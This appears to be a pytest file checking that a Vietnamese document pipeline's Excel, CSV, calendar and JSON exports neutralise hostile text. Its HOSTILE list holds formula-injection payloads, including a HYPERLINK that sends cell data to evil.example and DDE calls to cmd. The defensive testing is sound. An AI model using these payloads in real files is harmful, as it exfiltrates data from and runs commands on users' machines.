"""What an office gets: nothing that a document says can act in Excel or CSV, and nothing of it is lost."""

import csv
import io
import json
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from icalendar import Calendar
from typer.testing import CliRunner

from extractors.document import Source
from extractors.xlsx import read_xlsx
from pipeline.batch import ingest
from pipeline.commands.app import app
from pipeline.export import sheets
from pipeline.export.files import whole_file
from pipeline.export.sheets import Sheet, SheetColumn, harmless, neutralised, write_csv, write_workbook
from pipeline.store.parquet import Change, Store
from tests.store_samples import plan as sample_plan
from tests.store_samples import sample_reading

RAW = Path(__file__).parent.parent / "data" / "raw"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "＝1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "%0A=1+1",
    "- Rà soát, bổ sung",
    "<script>alert(1)</script>",
    "<!--<x:xmpMap>&lt;",
    "'=1+1",
    'a";=1+1;"',
    "http://evil.example",
    "mailto:a@evil.example",
    "{=1+1}",
    "_x003D_1+1",
    "Kế \u2067hoạch\u2069 \u200fabc",
    "x" * 10_000,
)


@pytest.fixture(scope="module")
def parsed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("export") / "parsed"
    ingest([RAW], out, workers=2)
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store whose every text is hostile."""
    root = tmp_path_factory.mktemp("hostile")
    made = sample_plan(tasks=0)
    (one,) = sample_plan(tasks=1).tasks
    tasks = tuple(
        replace(one, sequence=n, content=text, ordinal=text[:20], note=text, deadline_text=text, output=text)
        for n, text in enumerate(HOSTILE, 1)
    )
    made = replace(made, tasks=tasks, header=replace(made.header, title=HOSTILE[0], issuer=HOSTILE[1]))
    reading = sample_reading(made)
    with Store.writing(root) as store:
        store.commit(Change(readings=(reading,), places={reading.document_id: (reading.source_uri,)}))
    return root


def run(*arguments: str, code: int = 0) -> Any:
    result = CliRunner().invoke(app, list(arguments), catch_exceptions=False)
    assert result.exit_code == code, result.output
    return result


def cells(path: Path, sheet: str) -> list[dict[str, Any]]:
    heading, *rows = openpyxl.load_workbook(path)[sheet].iter_rows()
    return [{str(h.value): cell for h, cell in zip(heading, row, strict=False)} for row in rows]


# --- nothing acts --------------------------------------------------------------------------------------------------


def test_hostile_text_is_text_in_a_workbook(hostile: Path, tmp_path: Path) -> None:
    run("export", str(tmp_path / "a.xlsx"), "--data", str(hostile))
    rows = cells(tmp_path / "a.xlsx", "tasks")
    # "_x003D_" would mean "=" in the file, so it stands there with its own underscore escaped (ECMA-376, ST_Xstring).
    written = [str(row["content"].value).replace("_x005F_", "_") for row in rows]
    assert written == [harmless(text).replace("\r", "") for text in HOSTILE]
    assert {cell.data_type for row in rows for cell in row.values()} <= {"s", "n", "d", "b"}
    for row in rows:  # still text when someone edits the cell
        assert row["content"].quotePrefix == bool(sheets._FORMULA.match(str(row["content"].value)))
    with zipfile.ZipFile(tmp_path / "a.xlsx") as package:
        names = package.namelist()
        xml = b"".join(package.read(name) for name in names)
    assert b"<f>" not in xml
    assert b"<hyperlink" not in xml
    assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]


def test_hostile_text_is_no_formula_in_csv(hostile: Path, tmp_path: Path) -> None:
    run("export", str(tmp_path / "a.csv"), "--data", str(hostile))
    data = (tmp_path / "a.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r＝＋－＠"
            assert not any(character in value for character in "\x00\u202e\u2067\u200f")
    shown = CliRunner().invoke(app, ["query", "select content from tasks", "--csv", "--data", str(hostile)]).stdout
    assert [row[0] for row in csv.reader(io.StringIO(shown, newline=""))][1:] == [neutralised(text) for text in HOSTILE]


def test_hostile_text_neither_breaks_a_calendar_nor_json(hostile: Path, tmp_path: Path) -> None:
    run("export", str(tmp_path / "a.ics"), "--data", str(hostile))
    events = Calendar.from_ical((tmp_path / "a.ics").read_bytes()).walk("VEVENT")
    assert len(events) == 2 * len(HOSTILE)
    run("export", str(tmp_path / "a.jsonl"), "--data", str(hostile))
    (line,) = (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()
    assert [task["content"] for task in json.loads(line)["tasks"]] == list(HOSTILE)


@given(st.text())
def test_no_text_begins_a_formula(text: str) -> None:
    cell = neutralised(text)
    assert cell in {harmless(text), "'" + harmless(text)}
    assert not cell or cell[0] not in "=+-@\t\r\n＝＋－＠"
    assert harmless(harmless(text)) == harmless(text)


@given(st.lists(st.text(max_size=30), min_size=1, max_size=4))
def test_csv_gives_back_each_row(row: list[str]) -> None:
    stream = io.StringIO(newline="")
    assert write_csv(stream, ["x"] * len(row), [row]) == 1
    stream.seek(0)
    assert list(csv.reader(stream))[1] == [neutralised(text) for text in row]


# --- as an office expects it ---------------------------------------------------------------------------------------


def test_workbook_of_the_samples(parsed: Path, tmp_path: Path) -> None:
    told = run("export", str(tmp_path / "a.xlsx"), "--data", str(parsed), "--vi", "--as-of", "2024-06-01").stdout
    assert "54  Nhiệm vụ" in told
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == [
        *("Nhiệm vụ", "Văn bản", "Thời hạn", "Đơn vị", "Phát hiện", "Viện dẫn", "Tệp không đọc được"),
    ]
    tasks = book["Nhiệm vụ"]
    assert tasks.freeze_panes == "A2"
    assert tasks.auto_filter.ref.endswith("55")
    assert tasks.print_title_rows == "$1:$1"
    rows = cells(tmp_path / "a.xlsx", "Nhiệm vụ")
    dated = next(row for row in rows if row["Thời hạn"].value == "Trước ngày 30/3/2023")
    assert (dated["Hạn cuối"].value, dated["Hạn cuối"].number_format) == (datetime(2023, 3, 30), "dd/mm/yyyy")
    assert dated["Tình trạng theo ngày"].value == "quá hạn"
    assert dated["Nội dung công việc"].alignment.wrap_text
    folded = [range(d.min, d.max + 1) for d in tasks.column_dimensions.values() if d.hidden]
    hidden = {heading.value for heading in tasks[1] if any(heading.column in span for span in folded)}
    assert hidden >= {"Mã nhiệm vụ", "Mã văn bản", "Lời văn không dấu, để tìm kiếm"}
    assert "Nội dung công việc" not in hidden
    found = cells(tmp_path / "a.xlsx", "Phát hiện")
    shades = {row["Mức độ"].value: row["Nội dung"].fill.fgColor.rgb for row in found}
    assert shades == {"lỗi": "FFF8D7DA", "cảnh báo": "FFFFF3CD", "thông tin": "FFEEF1F4"}
    assert [row["Mức độ"].value for row in found][:1] == ["lỗi"]
    (due,) = [row for row in cells(tmp_path / "a.xlsx", "Thời hạn") if row["Lời văn"].value == "Trước ngày 30/3/2023"]
    assert [due[name].value for name in ("Số văn bản", "Ký hiệu", "STT")] == ["63", "KH-UBND", "1"]
    assert due["Nội dung công việc"].value.startswith("Kiện toàn Ban Chỉ huy")
    cited = cells(tmp_path / "a.xlsx", "Viện dẫn")
    assert all(row["Tên tệp"].value and row["Trích yếu văn bản"].value for row in cited)
    assert (tasks.page_setup.paperSize, book["Đơn vị"].page_setup.paperSize) == (8, 9)  # A3, for all that is abreast


def test_our_own_reader_reads_the_workbook(parsed: Path, tmp_path: Path) -> None:
    run("export", str(tmp_path / "a.xlsx"), "--data", str(parsed), "--table", "units", "--vi")
    data = (tmp_path / "a.xlsx").read_bytes()
    document = read_xlsx(Source("a.xlsx", "0" * 64, len(data)), data)
    assert any("Phòng Điều dưỡng" in str(block) for block in document.blocks)


def test_filters_hold_for_every_table(parsed: Path, tmp_path: Path) -> None:
    call = ("export", str(tmp_path / "a.xlsx"), "--data", str(parsed))
    run(*call, "--issuer", "muong tra")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["tasks", "documents", "deadlines", "units", "findings", "citations"]
    assert book["documents"].max_row == 3
    assert book["tasks"].max_row == 1 + 9 + 5
    run(*call, "--unit", "Điều dưỡng")
    rows = cells(tmp_path / "a.xlsx", "tasks")
    assert {row["file"].value for row in rows} == {"benh_vien_2025.pdf"}
    assert all("Điều dưỡng" in f"{row['leads'].value} {row['partners'].value}" for row in rows)
    assert {row["unit"].value for row in cells(tmp_path / "a.xlsx", "units")} == {"Phòng Điều dưỡng"}
    assert "Không có dòng nào" not in run(*call).stderr
    assert "Không có dòng nào khớp" in run(*call, "--unit", "đơn vị không có").stderr


def test_an_answer_as_a_workbook(parsed: Path, tmp_path: Path) -> None:
    query = "select severity, rule, count(*) as n from v_findings group by all order by severity"
    run("export", str(tmp_path / "a.xlsx"), "--data", str(parsed), "--query", query)
    rows = cells(tmp_path / "a.xlsx", "Kết quả")
    assert {row["severity"].value for row in rows} == {"lỗi", "cảnh báo", "thông tin"}
    assert sum(row["n"].value for row in rows) == 59


@pytest.mark.parametrize("form", ["zip", "folder"])
def test_all_tables_as_csv(parsed: Path, tmp_path: Path, form: str) -> None:
    target = tmp_path / ("a.zip" if form == "zip" else "bảng")
    run("export", str(target), "--data", str(parsed), "--vi")
    if form == "zip":
        with zipfile.ZipFile(target) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
    else:
        files = {path.name: path.read_bytes() for path in target.iterdir()}
    assert set(files) == {
        *("Nhiệm vụ.csv", "Văn bản.csv", "Thời hạn.csv", "Đơn vị.csv", "Phát hiện.csv", "Viện dẫn.csv"),
        "Tệp không đọc được.csv",
    }
    rows = list(csv.DictReader(io.StringIO(files["Nhiệm vụ.csv"].decode("utf-8-sig"), newline="")))
    assert len(rows) == 54
    assert "2023-03-30" in {row["Hạn cuối"] for row in rows}


def test_calendars_by_unit(parsed: Path, tmp_path: Path) -> None:
    run("export", str(tmp_path / "lịch.zip"), "--data", str(parsed), "--format", "ics")
    with zipfile.ZipFile(tmp_path / "lịch.zip") as archive:
        names = archive.namelist()
        nursing = Calendar.from_ical(archive.read("phong-dieu-duong.ics"))
    assert len(names) == len(set(names)) > 10
    (event,) = nursing.walk("VEVENT")
    assert event["summary"] == "Hạn: Kiểm tra việc nhận diện người bệnh tại các khoa lâm sàng"
    assert event["dtstart"].dt == date(2025, 3, 31)
    rule = event["rrule"]
    assert (rule["FREQ"], rule["INTERVAL"], rule["UNTIL"]) == (["MONTHLY"], [3], [date(2025, 12, 31)])
    assert "Số 86/KH-BVĐK, Bệnh viện Đa khoa Tân Phú Đông" in event["description"]
    run("export", str(tmp_path / "a.ics"), "--data", str(parsed), "--unit", "dieu duong")
    (same,) = Calendar.from_ical((tmp_path / "a.ics").read_bytes()).walk("VEVENT")
    assert same["uid"] == event["uid"]


def test_json_lines_hold_whole_documents(parsed: Path, tmp_path: Path) -> None:
    run("export", str(tmp_path / "a.jsonl"), "--data", str(parsed))
    documents = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [len(d["tasks"]) for d in documents] == [d["task_count"] for d in documents]
    assert sum(len(d["deadlines"]) for d in documents) == 54
    assert {d["issued_date"] for d in documents} >= {"2023-04-17"}


def test_wrong_calls_are_told(parsed: Path, tmp_path: Path) -> None:
    data = ("--data", str(parsed))
    assert "must end in .xlsx" in run("export", str(tmp_path / "a.pdf"), *data, code=2).stderr
    assert "no table 'task'" in run("export", str(tmp_path / "a.xlsx"), "--table", "task", *data, code=2).stderr
    run("export", str(tmp_path / "a.zip"), "--format", "xlsx", *data, code=2)
    run("export", str(tmp_path / "no" / "a.xlsx"), *data, code=3)
    assert "Referenced column" in run("export", str(tmp_path / "a.xlsx"), "--query", "select x", *data, code=2).stderr
    assert list(tmp_path.iterdir()) == []


# --- limits of Excel -----------------------------------------------------------------------------------------------


def test_long_cells_are_cut_and_told(tmp_path: Path) -> None:
    rows = [("ngắn", 1), ("đ" * 40_000, 2), ("𠀀" * 20_000, 3)]
    (report,) = write_workbook(tmp_path / "a.xlsx", [Sheet("A", [SheetColumn("nội dung"), SheetColumn("số")], rows)])
    assert (report.rows, report.cut_cells) == (3, 2)
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["A"]
    assert [len(str(sheet.cell(row, 1).value)) for row in (2, 3, 4)] == [4, 32_767, 16_383]
    assert [sheet.cell(row, 3).value for row in (2, 3, 4)] == [None, "nội dung", "nội dung"]
    assert not sheet.column_dimensions["C"].hidden
    write_workbook(tmp_path / "b.xlsx", [Sheet("A", [SheetColumn("x")], [("ngắn",)])])
    assert openpyxl.load_workbook(tmp_path / "b.xlsx")["A"].column_dimensions["B"].hidden


def test_more_rows_than_a_sheet_go_on_in_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MOST_ROWS", 11)
    (report,) = write_workbook(tmp_path / "a.xlsx", [Sheet("A/B", [SheetColumn("x")], ((n,) for n in range(25)))])
    assert (report.rows, report.parts) == (25, 3)
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["A-B", "A-B (2)", "A-B (3)"]
    assert [cell.value for name in book.sheetnames for (cell,) in book[name].iter_rows(2, max_col=1)] == [*range(25)]


def test_values_of_every_kind(tmp_path: Path) -> None:
    moment = datetime(2025, 1, 1, 20, 30, tzinfo=UTC)
    row = (date(2025, 1, 2), date(1899, 1, 1), moment, 2.5, float("nan"), True, None, ["a", "b"], {"x0": 1.5})
    write_workbook(tmp_path / "a.xlsx", [Sheet("A", [SheetColumn(str(n)) for n in range(len(row))], [row])])
    written = [cell.value for cell in openpyxl.load_workbook(tmp_path / "a.xlsx")["A"][2]][: len(row)]
    local = datetime(2025, 1, 2, 3, 30)  # in Hà Nội
    assert written == [datetime(2025, 1, 2), "01/01/1899", local, 2.5, "nan", "x", None, "a\nb", "x0: 1.5"]


def test_a_file_is_whole_or_not_there(tmp_path: Path) -> None:
    target = tmp_path / "a.txt"
    target.write_text("cũ", encoding="utf-8")

    def half() -> None:
        with whole_file(target) as draft:
            draft.write_text("nửa", encoding="utf-8")
            raise RuntimeError

    with pytest.raises(RuntimeError):
        half()
    assert target.read_text(encoding="utf-8") == "cũ"
    with whole_file(target) as draft:
        draft.write_text("mới", encoding="utf-8")
    assert target.read_text(encoding="utf-8") == "mới"
    assert [path.name for path in tmp_path.iterdir()] == ["a.txt"]
